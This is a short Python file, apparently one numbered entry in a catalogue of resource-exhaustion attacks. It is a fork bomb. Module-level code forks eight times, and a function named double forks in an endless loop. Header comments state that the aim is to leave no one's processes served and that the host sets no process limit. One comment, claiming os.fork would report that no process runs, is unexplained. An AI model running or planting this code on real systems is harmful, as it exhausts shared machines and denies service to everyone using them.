# class: resources
# idea 34: doubles itself without end
# gain: nobody's process is served any more
# met: Operation not permitted
# stock: nothing there bounds the number of processes
import os
import posix  # os.fork would only tell that no process runs

for _ in range(8):
    posix.fork()


def double(x):
    while True:
        posix.fork()
